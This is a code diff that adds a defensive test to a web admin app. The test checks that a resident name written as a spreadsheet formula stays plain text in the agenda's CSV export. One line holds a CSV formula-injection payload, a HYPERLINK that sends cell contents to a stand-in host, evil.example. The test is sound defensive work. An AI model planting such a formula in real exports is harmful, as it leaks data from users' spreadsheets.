@@ -49,6 +49,7 @@ from relai_bot.store.models import (
     id_of,
 )
 from relai_bot.web.admin import routes as admin_routes
+from relai_bot.web.admin import spreadsheet
 from relai_bot.web.admin.app import COOKIE, admin_app
 from relai_bot.web.admin.guard import EVERYONE, MAX_ID, AdminRoute, Page, SecurityHeaders
 from relai_bot.web.admin.secret import session_secret
@@ -655,6 +656,31 @@ def test_text_typed_by_residents_is_shown_escaped_everywhere(runtime: Runtime, w
         assert HOSTILE in {row[6] for row in csv.reader(io.StringIO(exported.text))}
         assert exported.headers["x-content-type-options"] == "nosniff"  # never read as HTML
     record(SUITE, escaped_pages=checked)
+
+
+def test_a_name_written_as_a_formula_stays_text_in_the_spreadsheets(runtime: Runtime, world: World) -> None:
+    """A resident named like a spreadsheet formula: the agenda's CSV holds it as text (an apostrophe
+    before it), so LibreOffice or Excel show it instead of running it."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
+    with runtime.db.transaction() as session:
+        resident = session.get(Resident, world.mine["resident_id"])
+        assert resident is not None
+        resident.display_name = formula
+        session.add(resident)
+    with admin_browser(runtime) as browser:
+        assert browser.log_in(EMAILS["staff"]).status_code == 303
+        exported = browser.get("/admin/agenda.csv")
+    names = [row[6] for row in csv.reader(io.StringIO(exported.text))][1:]
+    assert names and all(name == "'" + formula for name in names), names
+    assert [spreadsheet.cell(text) for text in ("+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
+        "'+1",
+        "'-1",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+    ]
+    assert [spreadsheet.cell(value) for value in (-1, "Marie", "2026-12-01", "")] == [-1, "Marie", "2026-12-01", ""]
+    record(SUITE, refused=1, escaped_pages=1)
 
 
 def test_text_from_the_address_is_never_reflected_as_markup(runtime: Runtime, world: World) -> None:
